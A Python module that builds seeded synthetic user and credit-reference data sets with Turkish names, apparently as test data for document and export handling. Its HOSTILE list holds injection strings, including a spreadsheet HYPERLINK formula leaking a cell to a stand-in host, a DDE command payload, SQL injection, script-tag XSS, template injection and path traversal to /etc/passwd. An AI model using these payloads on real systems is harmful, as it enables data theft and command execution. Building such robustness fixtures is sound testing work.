"""
The shipped data sets, made from a fixed seed.

People as a Turkish office has them, and among them the text that breaks documents: other scripts, emoji,
formulas, markup, control characters, very long names.
"""

import csv
import random
import tempfile
from collections.abc import Callable, Iterator, Mapping
from datetime import date, datetime, time, timedelta
from pathlib import Path
from typing import NamedTuple

import duckdb

SEED = 20250101
EDITION = "3"  # of the generators: what was written under another one is written again
MARKER = "_edition"  # a leading underscore is not data
NULL = "\\N"

USER_ROWS = 12_000
ACCOUNTS = 2500
FIRST_DAY, LAST_DAY = date(2023, 1, 1), date(2025, 12, 31)
DAYS = (LAST_DAY - FIRST_DAY).days + 1
SEEN_WITHIN = timedelta(days=365)  # of the registration
NEVER_SEEN, NO_BALANCE, OWING = 0.08, 0.05, 0.1  # of the rows

REFERENCE_ROWS = 3000
FIRST_REFERENCE = 90_001
NOT_KNOWN = 0.12  # of the attributes

FIRST_NAMES = (
    "Ayşe", "Fatma", "Emine", "Hatice", "Zeynep", "Elif", "Meryem", "Şerife", "Zehra", "Sultan", "Hanife",
    "Merve", "Havva", "Özlem", "Gülşah", "Çiğdem", "Şule", "Tuğba", "Müge", "İrem", "Ilgın", "Işıl", "Nilüfer",
    "Gökçe", "Öykü", "Ümmühan", "Mehmet", "Mustafa", "Ahmet", "Ali", "Hüseyin", "Hasan", "İbrahim", "İsmail",
    "Osman", "Yusuf", "Murat", "Ömer", "Ramazan", "Halil", "Süleyman", "Abdullah", "Çağlar", "Çağrı", "Göksel",
    "Gürkan", "Ümit", "Özgür", "Uğur", "Tuğrul", "Ufuk", "Barış", "Şükrü", "Kağan", "Doğukan", "Oğuzhan",
    "Yiğit", "Işık", "Rıza", "Ilgaz", "Cem", "Deniz", "Ece",
)  # fmt: skip
LAST_NAMES = (
    "Yılmaz", "Kaya", "Demir", "Çelik", "Şahin", "Yıldız", "Yıldırım", "Öztürk", "Aydın", "Özdemir", "Arslan",
    "Doğan", "Kılıç", "Aslan", "Çetin", "Kara", "Koç", "Kurt", "Özkan", "Şimşek", "Polat", "Özcan", "Korkmaz",
    "Çakır", "Erdoğan", "Yavuz", "Can", "Acar", "Şen", "Aktaş", "Güler", "Yalçın", "Güneş", "Bozkurt", "Bulut",
    "Keskin", "Ünal", "Turan", "Gül", "Özer", "Işık", "Kaplan", "Avcı", "Sarı", "Tekin", "Taş", "Köse",
    "Yüksel", "Ateş", "Aksoy", "İnan", "İnce", "Iğdırlı", "Ağaoğlu", "Müftüoğlu", "Gümüş", "Üstün", "Çağlayan",
    "Ömeroğlu", "Ğaripoğlu",
)  # fmt: skip
CITIES = (
    "İstanbul", "Ankara", "İzmir", "Bursa", "Antalya", "Adana", "Konya", "Şanlıurfa", "Gaziantep", "Kocaeli",
    "Mersin", "Diyarbakır", "Hatay", "Manisa", "Kayseri", "Samsun", "Balıkesir", "Kahramanmaraş", "Van",
    "Aydın", "Tekirdağ", "Sakarya", "Denizli", "Muğla", "Eskişehir", "Mardin", "Trabzon", "Ordu", "Malatya",
    "Erzurum", "Çorum", "Çanakkale", "Iğdır", "Ağrı", "Uşak", "Kırşehir", "Düzce", "Gümüşhane", "Niğde",
    "Tunceli", "Şırnak", "Muş", "Bingöl",
)  # fmt: skip
TO_ASCII = str.maketrans("çğıöşüÇĞİÖŞÜ", "cgiosuCGIOSU")

OTHER_SCRIPTS = (
    "山田太郎", "王小明", "김민준", "鈴木 花子 (すずき はなこ)", "محمد عبد الله", "فاطمة الزهراء", "שרה כהן",
    "Александр Пушкин", "Ольга Шевченко", "अमित शर्मा", "प्रिया सिंह", "สมชาย ใจดี", "Γιώργος Παπαδόπουλος",
    "José Ñuñez", "Zoë Brontë", "Đặng Thị Hương", "Łukasz Żółć", "I\u0307smail \u0130nce", "Ays\u0327e Go\u0308k",
)  # fmt: skip
EMOJI = ("Ece 🌸", "👩‍💻 Deniz", "Can 🇹🇷", "👨‍👩‍👧‍👦 Aile Hesabı", "Ali 👍🏽")
HOSTILE = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Tıkla")', "=1+1", "+905321234567", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '"Tırnak" Ayşe', "O'Brien", "Kaya, Ali; Dr.", "iki\nsatır",
    "üç\r\nsatır", "<script>alert(1)</script>", "<b>&amp;</b>", "]]>", "' OR 1=1 --", "'; drop table users; --",
    ") Tj (", "(a) Tj ET Q\\", "\\) \\( \\\\", "%PDF-1.7 endobj", "{{7*7}} ${7*7} %s %n", "../../etc/passwd",
    "\u202etxt.exe\u202c", "Ay\u200bşe\u200d\ufeff", "control \x01\x07\x08\x1b[31m\x7f", "\ufffd\ufffe", "   ",
    "\u00a0", "NULL", "null", "NaN", "007", "1e5", "a\u0301\u0323\u0308" * 12,
    "Şükrü " * 50, "Ğ" * 300, "VeryLongNameWithoutAnySpace" * 11, "龍" * 150,
)  # fmt: skip


def ensure_datasets(folder: Path) -> None:
    """Write the data sets that are missing, or that an older generator wrote."""
    for name, generator in GENERATORS.items():
        marker = folder / name / MARKER
        if not marker.is_file() or marker.read_text(encoding="utf-8") != EDITION:
            marker.parent.mkdir(parents=True, exist_ok=True)
            _write(marker.parent, generator)
            marker.write_text(EDITION, encoding="utf-8")


class Generator(NamedTuple):
    """A data set: its columns with their types, and what draws its rows."""

    columns: Mapping[str, str]
    draw: Callable[[random.Random], Iterator[tuple[object, ...]]]


def _write(folder: Path, generator: Generator) -> None:
    """Write `<name>/<name>.parquet`, in one step or not at all."""
    with tempfile.TemporaryDirectory(dir=folder, prefix=".") as scratch:
        rows, done = Path(scratch, "rows.csv"), Path(scratch, "rows.parquet")
        with rows.open("w", encoding="utf-8", newline="") as stream:
            drawn = generator.draw(random.Random(SEED))  # noqa: S311 - sample data
            csv.writer(stream, quoting=csv.QUOTE_ALL).writerows(drawn)
        _to_parquet(rows, done, generator.columns)
        done.replace(folder / f"{folder.name}.parquet")


def _to_parquet(rows: Path, done: Path, columns: Mapping[str, str]) -> None:
    with duckdb.connect(config={"threads": 1}) as con:  # one thread, so that the same rows give the same bytes
        relation = con.read_csv(
            str(rows), header=False, columns=dict(columns), na_values=NULL, quotechar='"', escapechar='"', delimiter=","
        )
        relation.write_parquet(str(done), compression="zstd")


USER_COLUMNS = {
    "id": "bigint", "user_id": "varchar", "full_name": "varchar", "email": "varchar", "role": "varchar",
    "city": "varchar", "status": "varchar", "registered_on": "date", "last_seen_at": "timestamp",
    "balance": "decimal(18,2)",
}  # fmt: skip


def users(chance: random.Random) -> Iterator[tuple[object, ...]]:
    """Draw the rows, columns as in `USER_COLUMNS`; every special name comes at least once."""
    special = [*OTHER_SCRIPTS, *EMOJI, *HOSTILE]
    for number in range(1, USER_ROWS + 1):
        name = f"{chance.choice(FIRST_NAMES)} {chance.choice(LAST_NAMES)}"
        email = f"{name.translate(TO_ASCII).lower().replace(' ', '.')}{number}@example.com"
        if number % 25 == 0:  # four per cent
            name = special[number // 25 % len(special)]
        yield (number, _account(number, chance), name, email, *_standing(chance), *_times(chance), _balance(chance))


def _account(number: int, chance: random.Random) -> int:
    """Give each account one row before any gets a second."""
    return number if number <= ACCOUNTS else chance.randint(1, ACCOUNTS)


def _standing(chance: random.Random) -> tuple[str, str, str]:
    role = chance.choices(("admin", "editor", "user", "viewer"), (2, 8, 70, 20))[0]
    status = chance.choices(("active", "inactive", "suspended"), (80, 15, 5))[0]
    return role, chance.choice(CITIES), status


def _times(chance: random.Random) -> tuple[date, object]:
    registered = FIRST_DAY + timedelta(days=chance.randrange(DAYS))
    if chance.random() < NEVER_SEEN:
        return registered, NULL
    midnight = datetime.combine(registered, time())
    end = min(midnight + SEEN_WITHIN, datetime.combine(LAST_DAY, time()) + timedelta(days=1))
    return registered, midnight + timedelta(seconds=chance.randrange(int((end - midnight).total_seconds())))


def _balance(chance: random.Random) -> str:
    if chance.random() < NO_BALANCE:
        return NULL
    cents = round(chance.lognormvariate(11, 1.5)) * (-1 if chance.random() < OWING else 1)
    return f"{cents / 100:.2f}"


EXAMPLE_REFERENCE = "92442"  # as in the original's documentation; docs/scores.md works it out
EXAMPLE_HABITS = (58, "91.67", 12, "42.50", NULL, 1)
# Months, days and applications are counted, the others are per cent.
REFERENCE_COLUMNS = {
    "reference_id": "varchar", "full_name": "varchar", "city": "varchar", "months_as_customer": "integer",
    "payments_on_time": "decimal(5,2)", "longest_delay_days": "integer", "credit_in_use": "decimal(5,2)",
    "debt_to_income": "decimal(5,2)", "recent_applications": "integer",
}  # fmt: skip


def references(chance: random.Random) -> Iterator[tuple[object, ...]]:
    """Draw customers to be scored; every special text is a name, and a customer's number."""
    special = [*OTHER_SCRIPTS, *EMOJI, *HOSTILE]
    for number in range(REFERENCE_ROWS):
        name = f"{chance.choice(FIRST_NAMES)} {chance.choice(LAST_NAMES)}"
        if number % 25 == 0:  # four per cent
            name = special[number // 25 % len(special)]
        reference = str(FIRST_REFERENCE + number)
        drawn = _habits(chance)
        yield reference, name, chance.choice(CITIES), *(EXAMPLE_HABITS if reference == EXAMPLE_REFERENCE else drawn)
    for text in special:
        yield text, text, chance.choice(CITIES), *_habits(chance)


def _habits(chance: random.Random) -> tuple[object, ...]:
    """Good payers delay little and owe little, so that scores spread as they do among people."""
    good = chance.betavariate(3, 2)
    habits = (
        chance.randrange(180),
        f"{100 * good**0.5:.2f}",
        0 if good > chance.random() else round(chance.expovariate(1 / (120 * (1 - good)))),
        f"{min(130.0, chance.lognormvariate(4.2 - 1.5 * good, 0.6)):.2f}",
        f"{min(250.0, chance.lognormvariate(4 - good, 0.5)):.2f}",
        min(12, int(chance.expovariate(0.3 + good))),
    )
    return tuple(NULL if chance.random() < NOT_KNOWN else habit for habit in habits)


GENERATORS: Mapping[str, Generator] = {
    "users": Generator(USER_COLUMNS, users),
    "references": Generator(REFERENCE_COLUMNS, references),
}
